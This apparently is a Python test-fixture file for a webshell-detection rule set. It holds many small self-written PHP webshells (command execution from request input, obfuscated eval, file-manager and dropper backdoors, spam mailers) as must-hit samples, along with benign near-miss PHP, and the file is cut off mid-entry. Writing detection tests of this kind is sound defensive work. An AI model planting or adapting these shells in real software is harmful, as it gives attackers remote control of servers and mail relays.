# ruff: noqa: E501
"""Must-hit / near-miss samples for issue 4p: misses of a blind batch of self-written webshells.

The variants were written without looking at the rules (one-liners, gated backdoors, loaders,
consoles, mailers); the ones the rules missed before issue 4p are kept here, each checked as
written, `padded(...)` (behind 5 KB of neutral HTML) and `embedded(...)` (at the top of a 35 KB
plugin-style file).  Nothing here comes from the malware corpus.  Collected by tests/test_rules.py.
"""

from __future__ import annotations

from tests.sample_hosts import embedded, padded, plain

CASES: list[tuple[str, bytes, bool]] = [
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php passthru( (string) $_REQUEST [ 'cmd' ] ); ?>"),
        True,
    ),  # blind ol09 plain
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php passthru( (string) $_REQUEST [ 'cmd' ] ); ?>"),
        True,
    ),  # blind ol09 padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded("<?php passthru( (string) $_REQUEST [ 'cmd' ] ); ?>"),
        True,
    ),  # blind ol09 embedded
    (
        "SPAMGEAR_INPUT_VarCallEvalPattern",
        plain('<?php\n$x = "pr"."eg_r"."eplace";\n$x("/a/e", "ev"."al(\\$_POST[q])", "a");\n?>'),
        True,
    ),  # blind mx07 plain
    (
        "SPAMGEAR_INPUT_VarCallEvalPattern",
        padded('<?php\n$x = "pr"."eg_r"."eplace";\n$x("/a/e", "ev"."al(\\$_POST[q])", "a");\n?>'),
        True,
    ),  # blind mx07 padded
    (
        "SPAMGEAR_INPUT_VarCallEvalPattern",
        embedded('<?php\n$x = "pr"."eg_r"."eplace";\n$x("/a/e", "ev"."al(\\$_POST[q])", "a");\n?>'),
        True,
    ),  # blind mx07 embedded
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        padded(
            "<?php\n$c = isset($_SERVER['HTTP_X_CMD']) ? $_SERVER['HTTP_X_CMD'] : '';\nif ($c) { echo '<pre>'; echo `$c`; echo '</pre>'; }\n?>"
        ),
        True,
    ),  # blind ol11 padded
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        embedded(
            "<?php\n$c = isset($_SERVER['HTTP_X_CMD']) ? $_SERVER['HTTP_X_CMD'] : '';\nif ($c) { echo '<pre>'; echo `$c`; echo '</pre>'; }\n?>"
        ),
        True,
    ),  # blind ol11 embedded
    (
        "SPAMGEAR_MAILER_EncodedRelay",
        plain(
            "<?php\n$e = base64_decode($_GET['e']);\n$s = base64_decode($_GET['s']);\n$b = base64_decode($_GET['b']);\n$h = \"From: support@\" . $_SERVER['HTTP_HOST'] . \"\\r\\nContent-Type: text/html\";\necho mail($e, $s, $b, $h) ? 'OK' : 'ERR';\n?>"
        ),
        True,
    ),  # blind ml03 plain
    (
        "SPAMGEAR_MAILER_EncodedRelay",
        padded(
            "<?php\n$e = base64_decode($_GET['e']);\n$s = base64_decode($_GET['s']);\n$b = base64_decode($_GET['b']);\n$h = \"From: support@\" . $_SERVER['HTTP_HOST'] . \"\\r\\nContent-Type: text/html\";\necho mail($e, $s, $b, $h) ? 'OK' : 'ERR';\n?>"
        ),
        True,
    ),  # blind ml03 padded
    (
        "SPAMGEAR_MAILER_EncodedRelay",
        embedded(
            "<?php\n$e = base64_decode($_GET['e']);\n$s = base64_decode($_GET['s']);\n$b = base64_decode($_GET['b']);\n$h = \"From: support@\" . $_SERVER['HTTP_HOST'] . \"\\r\\nContent-Type: text/html\";\necho mail($e, $s, $b, $h) ? 'OK' : 'ERR';\n?>"
        ),
        True,
    ),  # blind ml03 embedded
    (
        "SPAMGEAR_MAILER_BulkSendFromInputCopy",
        plain(
            "<?php\n$emails = file_get_contents('php://input');\n$cfg = json_decode($emails, true);\nforeach ($cfg['to'] as $addr) {\n  mail($addr, $cfg['subject'], $cfg['html'], \"From: \" . $cfg['from'] . \"\\r\\nContent-type: text/html; charset=UTF-8\");\n}\necho count($cfg['to']);\n?>"
        ),
        True,
    ),  # blind ml05 plain
    (
        "SPAMGEAR_MAILER_BulkSendFromInputCopy",
        padded(
            "<?php\n$emails = file_get_contents('php://input');\n$cfg = json_decode($emails, true);\nforeach ($cfg['to'] as $addr) {\n  mail($addr, $cfg['subject'], $cfg['html'], \"From: \" . $cfg['from'] . \"\\r\\nContent-type: text/html; charset=UTF-8\");\n}\necho count($cfg['to']);\n?>"
        ),
        True,
    ),  # blind ml05 padded
    (
        "SPAMGEAR_MAILER_BulkSendFromInputCopy",
        embedded(
            "<?php\n$emails = file_get_contents('php://input');\n$cfg = json_decode($emails, true);\nforeach ($cfg['to'] as $addr) {\n  mail($addr, $cfg['subject'], $cfg['html'], \"From: \" . $cfg['from'] . \"\\r\\nContent-type: text/html; charset=UTF-8\");\n}\necho count($cfg['to']);\n?>"
        ),
        True,
    ),  # blind ml05 embedded
    (
        "SPAMGEAR_MAILER_BulkSendFromInputCopy",
        plain(
            "<?php\n$d = unserialize(base64_decode($_POST['d']));\nforeach ($d['list'] as $rcpt) {\n    $r = mail($rcpt, '=?UTF-8?B?' . base64_encode($d['subj']) . '?=', $d['body'], implode(\"\\r\\n\", $d['headers']));\n}\necho 'sent';\n?>"
        ),
        True,
    ),  # blind ml09 plain
    (
        "SPAMGEAR_MAILER_BulkSendFromInputCopy",
        padded(
            "<?php\n$d = unserialize(base64_decode($_POST['d']));\nforeach ($d['list'] as $rcpt) {\n    $r = mail($rcpt, '=?UTF-8?B?' . base64_encode($d['subj']) . '?=', $d['body'], implode(\"\\r\\n\", $d['headers']));\n}\necho 'sent';\n?>"
        ),
        True,
    ),  # blind ml09 padded
    (
        "SPAMGEAR_MAILER_BulkSendFromInputCopy",
        embedded(
            "<?php\n$d = unserialize(base64_decode($_POST['d']));\nforeach ($d['list'] as $rcpt) {\n    $r = mail($rcpt, '=?UTF-8?B?' . base64_encode($d['subj']) . '?=', $d['body'], implode(\"\\r\\n\", $d['headers']));\n}\necho 'sent';\n?>"
        ),
        True,
    ),  # blind ml09 embedded
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderName",
        plain(
            "<?php\n$Ox1 = 'eJzLSM3JyVcozy/KSQEAGgQEXQ==';\n$Ox2 = 'gzu' . 'ncompress';\n$Ox3 = 'base64' . '_decode';\n$Ox4 = $Ox2($Ox3($Ox1));\n@eval($Ox4);\n?>"
        ),
        True,
    ),  # blind ob08 plain
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderName",
        padded(
            "<?php\n$Ox1 = 'eJzLSM3JyVcozy/KSQEAGgQEXQ==';\n$Ox2 = 'gzu' . 'ncompress';\n$Ox3 = 'base64' . '_decode';\n$Ox4 = $Ox2($Ox3($Ox1));\n@eval($Ox4);\n?>"
        ),
        True,
    ),  # blind ob08 padded
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderName",
        embedded(
            "<?php\n$Ox1 = 'eJzLSM3JyVcozy/KSQEAGgQEXQ==';\n$Ox2 = 'gzu' . 'ncompress';\n$Ox3 = 'base64' . '_decode';\n$Ox4 = $Ox2($Ox3($Ox1));\n@eval($Ox4);\n?>"
        ),
        True,
    ),  # blind ob08 embedded
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderThenEval",
        plain(
            "<?php\n$Ox1 = 'eJzLSM3JyVcozy/KSQEAGgQEXQ==';\n$Ox2 = 'gzu' . 'ncompress';\n$Ox3 = 'base64' . '_decode';\n$Ox4 = $Ox2($Ox3($Ox1));\n@eval($Ox4);\n?>"
        ),
        True,
    ),  # blind ob08 plain
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderThenEval",
        padded(
            "<?php\n$Ox1 = 'eJzLSM3JyVcozy/KSQEAGgQEXQ==';\n$Ox2 = 'gzu' . 'ncompress';\n$Ox3 = 'base64' . '_decode';\n$Ox4 = $Ox2($Ox3($Ox1));\n@eval($Ox4);\n?>"
        ),
        True,
    ),  # blind ob08 padded
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderThenEval",
        embedded(
            "<?php\n$Ox1 = 'eJzLSM3JyVcozy/KSQEAGgQEXQ==';\n$Ox2 = 'gzu' . 'ncompress';\n$Ox3 = 'base64' . '_decode';\n$Ox4 = $Ox2($Ox3($Ox1));\n@eval($Ox4);\n?>"
        ),
        True,
    ),  # blind ob08 embedded
    (
        "SPAMGEAR_OBFUSC_ChrChainCalled",
        plain(
            "<?php\n$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n$f(chr(115).chr(121).chr(115).'tem($_GET[1]);');\n?>"
        ),
        True,
    ),  # blind ob04 plain
    (
        "SPAMGEAR_OBFUSC_ChrChainCalled",
        padded(
            "<?php\n$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n$f(chr(115).chr(121).chr(115).'tem($_GET[1]);');\n?>"
        ),
        True,
    ),  # blind ob04 padded
    (
        "SPAMGEAR_OBFUSC_ChrChainCalled",
        embedded(
            "<?php\n$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n$f(chr(115).chr(121).chr(115).'tem($_GET[1]);');\n?>"
        ),
        True,
    ),  # blind ob04 embedded
    (
        "SPAMGEAR_TOOLKIT_ActionDispatchFileOps",
        plain(
            "<?php\nfunction perms($f){ $p = fileperms($f); return substr(sprintf('%o',$p),-4); }\n$a = @$_REQUEST['act']; $t = @$_REQUEST['t'];\nswitch ($a) {\n  case 'view': echo '<pre>'.htmlspecialchars(file_get_contents($t)).'</pre>'; break;\n  case 'rm': is_dir($t) ? rmdir($t) : unlink($t); break;\n  case 'mv': rename($t, $_REQUEST['to']); break;\n  case 'chmod': chmod($t, octdec($_REQUEST['mode'])); break;\n  case 'mkdir': mkdir($t); break;\n  case 'dl': header('Content-Disposition: attachment; filename=\"'.basename($t).'\"'); readfile($t); exit;\n}\n$d = opendir('.');\nwhile (($e = readdir($d)) !== false) { echo \"<a href='?act=view&t=$e'>$e</a> \".perms($e).\" <a href='?act=rm&t=$e'>rm</a><br>\"; }\n?>"
        ),
        True,
    ),  # blind fm03 plain
    (
        "SPAMGEAR_TOOLKIT_ActionDispatchFileOps",
        padded(
            "<?php\nfunction perms($f){ $p = fileperms($f); return substr(sprintf('%o',$p),-4); }\n$a = @$_REQUEST['act']; $t = @$_REQUEST['t'];\nswitch ($a) {\n  case 'view': echo '<pre>'.htmlspecialchars(file_get_contents($t)).'</pre>'; break;\n  case 'rm': is_dir($t) ? rmdir($t) : unlink($t); break;\n  case 'mv': rename($t, $_REQUEST['to']); break;\n  case 'chmod': chmod($t, octdec($_REQUEST['mode'])); break;\n  case 'mkdir': mkdir($t); break;\n  case 'dl': header('Content-Disposition: attachment; filename=\"'.basename($t).'\"'); readfile($t); exit;\n}\n$d = opendir('.');\nwhile (($e = readdir($d)) !== false) { echo \"<a href='?act=view&t=$e'>$e</a> \".perms($e).\" <a href='?act=rm&t=$e'>rm</a><br>\"; }\n?>"
        ),
        True,
    ),  # blind fm03 padded
    (
        "SPAMGEAR_TOOLKIT_ActionDispatchFileOps",
        embedded(
            "<?php\nfunction perms($f){ $p = fileperms($f); return substr(sprintf('%o',$p),-4); }\n$a = @$_REQUEST['act']; $t = @$_REQUEST['t'];\nswitch ($a) {\n  case 'view': echo '<pre>'.htmlspecialchars(file_get_contents($t)).'</pre>'; break;\n  case 'rm': is_dir($t) ? rmdir($t) : unlink($t); break;\n  case 'mv': rename($t, $_REQUEST['to']); break;\n  case 'chmod': chmod($t, octdec($_REQUEST['mode'])); break;\n  case 'mkdir': mkdir($t); break;\n  case 'dl': header('Content-Disposition: attachment; filename=\"'.basename($t).'\"'); readfile($t); exit;\n}\n$d = opendir('.');\nwhile (($e = readdir($d)) !== false) { echo \"<a href='?act=view&t=$e'>$e</a> \".perms($e).\" <a href='?act=rm&t=$e'>rm</a><br>\"; }\n?>"
        ),
        True,
    ),  # blind fm03 embedded
    (
        "SPAMGEAR_TOOLKIT_ActionDispatchFileOps",
        plain(
            "<?php\n$act = $_GET['a'] ?? 'ls';\n$p = $_GET['p'] ?? '.';\nif ($act === 'ls') { foreach (new DirectoryIterator($p) as $i) { if ($i->isDot()) continue; printf(\"%s %10d %s\\n\", $i->isDir() ? 'd' : '-', $i->getSize(), $i->getFilename()); } }\nelseif ($act === 'cat') { readfile($p); }\nelseif ($act === 'put') { file_put_contents($p, file_get_contents('php://input')); echo 'ok'; }\nelseif ($act === 'rm') { unlink($p); }\n?>"
        ),
        True,
    ),  # blind fm09 plain
    (
        "SPAMGEAR_TOOLKIT_ActionDispatchFileOps",
        padded(
            "<?php\n$act = $_GET['a'] ?? 'ls';\n$p = $_GET['p'] ?? '.';\nif ($act === 'ls') { foreach (new DirectoryIterator($p) as $i) { if ($i->isDot()) continue; printf(\"%s %10d %s\\n\", $i->isDir() ? 'd' : '-', $i->getSize(), $i->getFilename()); } }\nelseif ($act === 'cat') { readfile($p); }\nelseif ($act === 'put') { file_put_contents($p, file_get_contents('php://input')); echo 'ok'; }\nelseif ($act === 'rm') { unlink($p); }\n?>"
        ),
        True,
    ),  # blind fm09 padded
    (
        "SPAMGEAR_TOOLKIT_ActionDispatchFileOps",
        embedded(
            "<?php\n$act = $_GET['a'] ?? 'ls';\n$p = $_GET['p'] ?? '.';\nif ($act === 'ls') { foreach (new DirectoryIterator($p) as $i) { if ($i->isDot()) continue; printf(\"%s %10d %s\\n\", $i->isDir() ? 'd' : '-', $i->getSize(), $i->getFilename()); } }\nelseif ($act === 'cat') { readfile($p); }\nelseif ($act === 'put') { file_put_contents($p, file_get_contents('php://input')); echo 'ok'; }\nelseif ($act === 'rm') { unlink($p); }\n?>"
        ),
        True,
    ),  # blind fm09 embedded
    (
        "SPAMGEAR_DROPPER_InputUrlToInputPath",
        plain(
            "<?php\n$c = curl_init($_POST['url']);\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n$d = curl_exec($c);\n$fp = fopen($_SERVER['DOCUMENT_ROOT'].'/'.$_POST['name'], 'w');\nfwrite($fp, $d); fclose($fp);\n?>"
        ),
        True,
    ),  # blind up04 plain
    (
        "SPAMGEAR_DROPPER_InputUrlToInputPath",
        padded(
            "<?php\n$c = curl_init($_POST['url']);\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n$d = curl_exec($c);\n$fp = fopen($_SERVER['DOCUMENT_ROOT'].'/'.$_POST['name'], 'w');\nfwrite($fp, $d); fclose($fp);\n?>"
        ),
        True,
    ),  # blind up04 padded
    (
        "SPAMGEAR_DROPPER_InputUrlToInputPath",
        embedded(
            "<?php\n$c = curl_init($_POST['url']);\ncurl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n$d = curl_exec($c);\n$fp = fopen($_SERVER['DOCUMENT_ROOT'].'/'.$_POST['name'], 'w');\nfwrite($fp, $d); fclose($fp);\n?>"
        ),
        True,
    ),  # blind up04 embedded
    (
        "SPAMGEAR_OBFUSC_CharArraySinkName",
        plain(
            "<?php\n$k = 'q';\n$v = isset($_POST[$k]) ? $_POST[$k] : '';\n$fn = implode('', array('s','y','s','t','e','m'));\n$fn($v);\n?>"
        ),
        True,
    ),  # blind b14 plain
    (
        "SPAMGEAR_OBFUSC_CharArraySinkName",
        padded(
            "<?php\n$k = 'q';\n$v = isset($_POST[$k]) ? $_POST[$k] : '';\n$fn = implode('', array('s','y','s','t','e','m'));\n$fn($v);\n?>"
        ),
        True,
    ),  # blind b14 padded
    (
        "SPAMGEAR_OBFUSC_CharArraySinkName",
        embedded(
            "<?php\n$k = 'q';\n$v = isset($_POST[$k]) ? $_POST[$k] : '';\n$fn = implode('', array('s','y','s','t','e','m'));\n$fn($v);\n?>"
        ),
        True,
    ),  # blind b14 embedded
    (
        "SPAMGEAR_INPUT_FetchInputUrlThenEval",
        plain(
            "<?php\nif (isset($_GET['u'])) {\n  $ch = curl_init($_GET['u']); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n  $code = curl_exec($ch);\n  eval('?>' . $code);\n}\n?>"
        ),
        True,
    ),  # blind b06 plain
    (
        "SPAMGEAR_INPUT_FetchInputUrlThenEval",
        padded(
            "<?php\nif (isset($_GET['u'])) {\n  $ch = curl_init($_GET['u']); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n  $code = curl_exec($ch);\n  eval('?>' . $code);\n}\n?>"
        ),
        True,
    ),  # blind b06 padded
    (
        "SPAMGEAR_INPUT_FetchInputUrlThenEval",
        embedded(
            "<?php\nif (isset($_GET['u'])) {\n  $ch = curl_init($_GET['u']); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n  $code = curl_exec($ch);\n  eval('?>' . $code);\n}\n?>"
        ),
        True,
    ),  # blind b06 embedded
    (
        "SPAMGEAR_INPUT_SinkDispatchTable",
        plain(
            "<?php\n$ops = ['ls' => 'scandir', 'rd' => 'file_get_contents', 'wr' => 'file_put_contents', 'rm' => 'unlink', 'x' => 'shell_exec'];\n$op = $_POST['op']; $args = (array) $_POST['args'];\necho json_encode(call_user_func_array($ops[$op], $args));\n?>"
        ),
        True,
    ),  # blind b15 plain
    (
        "SPAMGEAR_INPUT_SinkDispatchTable",
        padded(
            "<?php\n$ops = ['ls' => 'scandir', 'rd' => 'file_get_contents', 'wr' => 'file_put_contents', 'rm' => 'unlink', 'x' => 'shell_exec'];\n$op = $_POST['op']; $args = (array) $_POST['args'];\necho json_encode(call_user_func_array($ops[$op], $args));\n?>"
        ),
        True,
    ),  # blind b15 padded
    (
        "SPAMGEAR_INPUT_SinkDispatchTable",
        embedded(
            "<?php\n$ops = ['ls' => 'scandir', 'rd' => 'file_get_contents', 'wr' => 'file_put_contents', 'rm' => 'unlink', 'x' => 'shell_exec'];\n$op = $_POST['op']; $args = (array) $_POST['args'];\necho json_encode(call_user_func_array($ops[$op], $args));\n?>"
        ),
        True,
    ),  # blind b15 embedded
    (
        "SPAMGEAR_MAILER_SmtpEnvelopeFromInput",
        plain(
            "<?php\n$smtp = fsockopen('localhost', 25);\n$to = $_REQUEST['to'];\nfwrite($smtp, \"HELO x\\r\\nMAIL FROM:<\" . $_REQUEST['from'] . \">\\r\\nRCPT TO:<$to>\\r\\nDATA\\r\\nSubject: \" . $_REQUEST['subject'] . \"\\r\\n\\r\\n\" . $_REQUEST['body'] . \"\\r\\n.\\r\\nQUIT\\r\\n\");\necho fread($smtp, 4096);\n?>"
        ),
        True,
    ),  # blind b25 plain
    (
        "SPAMGEAR_MAILER_SmtpEnvelopeFromInput",
        padded(
            "<?php\n$smtp = fsockopen('localhost', 25);\n$to = $_REQUEST['to'];\nfwrite($smtp, \"HELO x\\r\\nMAIL FROM:<\" . $_REQUEST['from'] . \">\\r\\nRCPT TO:<$to>\\r\\nDATA\\r\\nSubject: \" . $_REQUEST['subject'] . \"\\r\\n\\r\\n\" . $_REQUEST['body'] . \"\\r\\n.\\r\\nQUIT\\r\\n\");\necho fread($smtp, 4096);\n?>"
        ),
        True,
    ),  # blind b25 padded
    (
        "SPAMGEAR_MAILER_SmtpEnvelopeFromInput",
        embedded(
            "<?php\n$smtp = fsockopen('localhost', 25);\n$to = $_REQUEST['to'];\nfwrite($smtp, \"HELO x\\r\\nMAIL FROM:<\" . $_REQUEST['from'] . \">\\r\\nRCPT TO:<$to>\\r\\nDATA\\r\\nSubject: \" . $_REQUEST['subject'] . \"\\r\\n\\r\\n\" . $_REQUEST['body'] . \"\\r\\n.\\r\\nQUIT\\r\\n\");\necho fread($smtp, 4096);\n?>"
        ),
        True,
    ),  # blind b25 embedded
    (
        "SPAMGEAR_MAILER_RelayAllArgsFromInput",
        plain(
            "<?php\n$t = $_POST['to']; $s = $_POST['s']; $b = $_POST['b'];\nfor ($i = 0; $i < (int)$_POST['n']; $i++) { mail($t, $s . ' #' . $i, $b); }\n?>"
        ),
        True,
    ),  # blind b09 plain
    (
        "SPAMGEAR_MAILER_RelayAllArgsFromInput",
        padded(
            "<?php\n$t = $_POST['to']; $s = $_POST['s']; $b = $_POST['b'];\nfor ($i = 0; $i < (int)$_POST['n']; $i++) { mail($t, $s . ' #' . $i, $b); }\n?>"
        ),
        True,
    ),  # blind b09 padded
    (
        "SPAMGEAR_MAILER_RelayAllArgsFromInput",
        embedded(
            "<?php\n$t = $_POST['to']; $s = $_POST['s']; $b = $_POST['b'];\nfor ($i = 0; $i < (int)$_POST['n']; $i++) { mail($t, $s . ' #' . $i, $b); }\n?>"
        ),
        True,
    ),  # blind b09 embedded
    (
        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
        plain("<?php\n$p = getenv('HTTP_X_P');\nif ($p) { system(base64_decode($p)); exit; }\n?>"),
        True,
    ),  # blind c14 plain
    (
        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
        padded("<?php\n$p = getenv('HTTP_X_P');\nif ($p) { system(base64_decode($p)); exit; }\n?>"),
        True,
    ),  # blind c14 padded
    (
        "SPAMGEAR_EVASION_CustomHeaderToSinkNear",
        embedded("<?php\n$p = getenv('HTTP_X_P');\nif ($p) { system(base64_decode($p)); exit; }\n?>"),
        True,
    ),  # blind c14 embedded
    (
        "SPAMGEAR_INPUT_InputWrittenAsPhpThenIncluded",
        plain(
            "<?php\n$s = $_POST['s'];\n$t = tmpfile();\nfwrite($t, \"<?php \" . $s);\n$meta = stream_get_meta_data($t);\ninclude $meta['uri'];\n?>"
        ),
        True,
    ),  # blind c15 plain
    (
        "SPAMGEAR_INPUT_InputWrittenAsPhpThenIncluded",
        padded(
            "<?php\n$s = $_POST['s'];\n$t = tmpfile();\nfwrite($t, \"<?php \" . $s);\n$meta = stream_get_meta_data($t);\ninclude $meta['uri'];\n?>"
        ),
        True,
    ),  # blind c15 padded
    (
        "SPAMGEAR_INPUT_InputWrittenAsPhpThenIncluded",
        embedded(
            "<?php\n$s = $_POST['s'];\n$t = tmpfile();\nfwrite($t, \"<?php \" . $s);\n$meta = stream_get_meta_data($t);\ninclude $meta['uri'];\n?>"
        ),
        True,
    ),  # blind c15 embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain(
            "<?php\n$n = (int) $_GET['n'];\nexec('convert -resize ' . escapeshellarg((string) $n) . ' in.png out.png');\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded(
            "<?php\n$n = (int) $_GET['n'];\nexec('convert -resize ' . escapeshellarg((string) $n) . ' in.png out.png');\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_VarCallEvalPattern",
        plain(
            "<?php\n$re = '/^[a-z]+$/i';\n$fn = 'preg_match';\nif ($fn('/^\\d+$/', $_GET['id'])) { echo 'ok'; }\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_VarCallEvalPattern",
        embedded(
            "<?php\n$re = '/^[a-z]+$/i';\n$fn = 'preg_match';\nif ($fn('/^\\d+$/', $_GET['id'])) { echo 'ok'; }\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        plain(
            "<?php\n/*\n$db = $_GET['db'];\n$cmd = \"pg_dump -c -U postgres $db\";\n$res = `$cmd`;\necho $res;\n*/\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        embedded(
            "<?php\n/*\n$db = $_GET['db'];\n$cmd = \"pg_dump -c -U postgres $db\";\n$res = `$cmd`;\necho $res;\n*/\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        plain(
            "<?php\n$page = $_GET['page'] ?? 'home';\n$title = ucfirst($page);\n?>\n<script>\nconst tpl = `${title}`;\nconst msg = `$title`;\n</script>\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        embedded(
            "<?php\n$page = $_GET['page'] ?? 'home';\n$title = ucfirst($page);\n?>\n<script>\nconst tpl = `${title}`;\nconst msg = `$title`;\n</script>\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_MAILER_EncodedRelay",
        plain(
            "<?php\n$ref = base64_decode($_GET['ref']);\n$ret = urldecode($_GET['return']);\nheader('Location: ' . $ret);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_MAILER_EncodedRelay",
        embedded(
            "<?php\n$ref = base64_decode($_GET['ref']);\n$ret = urldecode($_GET['return']);\nheader('Location: ' . $ret);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_MAILER_BulkSendFromInputCopy",
        plain(
            "<?php\n$raw = file_get_contents('php://input');\n$data = json_decode($raw, true);\nforeach ($data['items'] as $item) {\n    $db->insert('orders', $item['sku'], $data['customer']);\n}\nmail('shop@example.com', 'New order', 'Order from ' . $data['customer']['name']);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_MAILER_BulkSendFromInputCopy",
        embedded(
            "<?php\n$raw = file_get_contents('php://input');\n$data = json_decode($raw, true);\nforeach ($data['items'] as $item) {\n    $db->insert('orders', $item['sku'], $data['customer']);\n}\nmail('shop@example.com', 'New order', 'Order from ' . $data['customer']['name']);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_MAILER_BulkSendFromInputCopy",
        plain(
            "<?php\n$cfg = json_decode(file_get_contents(__DIR__ . '/config.json'), true);\nforeach ($cfg['admins'] as $to) {\n    mail($to, $cfg['subject'], $cfg['body']);\n}\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_MAILER_BulkSendFromInputCopy",
        embedded(
            "<?php\n$cfg = json_decode(file_get_contents(__DIR__ . '/config.json'), true);\nforeach ($cfg['admins'] as $to) {\n    mail($to, $cfg['subject'], $cfg['body']);\n}\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderName",
        plain("<?php\n$ext = 'gz' . 'ip';\n$name = 'backup.' . $ext;\n"),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderName",
        embedded("<?php\n$ext = 'gz' . 'ip';\n$name = 'backup.' . $ext;\n"),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderThenEval",
        plain(
            "<?php\n$fn = 'base64' . '_decode';\n$img = $fn($row['thumb']);\nfile_put_contents($cache, $img);\n// later\n$ok = is_array($list);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderThenEval",
        embedded(
            "<?php\n$fn = 'base64' . '_decode';\n$img = $fn($row['thumb']);\nfile_put_contents($cache, $img);\n// later\n$ok = is_array($list);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderThenEval",
        plain("<?php\n$tpl = eval($compiled);\n$enc = 'base' . '64';\n"),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_ConcatDecoderThenEval",
        embedded("<?php\n$tpl = eval($compiled);\n$enc = 'base' . '64';\n"),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_ChrChainCalled",
        plain(
            "<?php\n$hdr = chr(0x1f) . chr(139);\n$sep = chr(13) . chr(10) . chr(13) . chr(10);\n$this->write($sep);\n$out = sprintf('%s', $sep);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_ChrChainCalled",
        embedded(
            "<?php\n$hdr = chr(0x1f) . chr(139);\n$sep = chr(13) . chr(10) . chr(13) . chr(10);\n$this->write($sep);\n$out = sprintf('%s', $sep);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_TOOLKIT_ActionDispatchFileOps",
        plain(
            "<?php\nsession_start();\nif (!hash_equals($_SESSION['csrf'], $_POST['csrf'] ?? '')) { die('bad token'); }\n$f = $_POST['file'];\n$path = realpath(UPLOAD_DIR . '/' . basename($f));\nswitch ($_POST['op']) {\n  case 'delete': unlink($path); break;\n  case 'rename': rename($path, UPLOAD_DIR . '/' . basename($_POST['to'])); break;\n  case 'download': readfile($path); break;\n  case 'mkdir': mkdir($path); break;\n}\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_TOOLKIT_ActionDispatchFileOps",
        embedded(
            "<?php\nsession_start();\nif (!hash_equals($_SESSION['csrf'], $_POST['csrf'] ?? '')) { die('bad token'); }\n$f = $_POST['file'];\n$path = realpath(UPLOAD_DIR . '/' . basename($f));\nswitch ($_POST['op']) {\n  case 'delete': unlink($path); break;\n  case 'rename': rename($path, UPLOAD_DIR . '/' . basename($_POST['to'])); break;\n  case 'download': readfile($path); break;\n  case 'mkdir': mkdir($path); break;\n}\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_TOOLKIT_ActionDispatchFileOps",
        plain(
            "<?php\n$mode = $_GET['mode'];\nif ($mode === 'view') { echo render($page); }\nif ($mode === 'delete') { unlink($cacheFile); }\nif ($mode === 'edit') { echo form($page); }\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_TOOLKIT_ActionDispatchFileOps",
        embedded(
            "<?php\n$mode = $_GET['mode'];\nif ($mode === 'view') { echo render($page); }\nif ($mode === 'delete') { unlink($cacheFile); }\nif ($mode === 'edit') { echo form($page); }\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_DROPPER_InputUrlToInputPath",
        plain(
            "<?php\n$data = file_get_contents($_GET['src']);\nfile_put_contents(CACHE_DIR . '/' . md5($_GET['src']) . '.img', $data);\nheader('Content-Type: image/png');\necho $data;\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_DROPPER_InputUrlToInputPath",
        embedded(
            "<?php\n$data = file_get_contents($_GET['src']);\nfile_put_contents(CACHE_DIR . '/' . md5($_GET['src']) . '.img', $data);\nheader('Content-Type: image/png');\necho $data;\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_DROPPER_InputUrlToInputPath",
        plain(
